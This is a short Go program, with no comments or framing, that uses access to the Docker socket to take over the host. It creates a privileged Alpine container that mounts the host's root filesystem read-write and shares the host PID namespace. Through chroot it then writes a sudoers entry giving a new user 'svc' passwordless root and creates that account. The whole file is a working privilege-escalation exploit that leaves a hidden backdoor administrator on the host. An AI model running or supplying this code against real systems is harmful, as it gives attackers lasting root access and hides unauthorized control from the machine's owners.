package main

import (
	"bytes"
	"context"
	"encoding/json"
	"net"
	"net/http"
)

func client() *http.Client {
	return &http.Client{Transport: &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "unix", "/var/run/docker.sock")
		},
	}}
}

func post(c *http.Client, path string, body any) (map[string]any, error) {
	b, _ := json.Marshal(body)
	r, err := c.Post("http://d/v1.41"+path, "application/json", bytes.NewReader(b))
	if err != nil {
		return nil, err
	}
	defer r.Body.Close()
	out := map[string]any{}
	json.NewDecoder(r.Body).Decode(&out)
	return out, nil
}

func main() {
	c := client()
	spec := map[string]any{
		"Image": "alpine:3.19",
		"Cmd":   []string{"chroot", "/h", "sh", "-c", "echo 'svc ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-svc; useradd -m svc"},
		"HostConfig": map[string]any{
			"Binds":      []string{"/:/h:rw"},
			"Privileged": true,
			"PidMode":    "host",
		},
	}
	r, err := post(c, "/containers/create", spec)
	if err != nil {
		panic(err)
	}
	post(c, "/containers/"+r["Id"].(string)+"/start", nil)
}
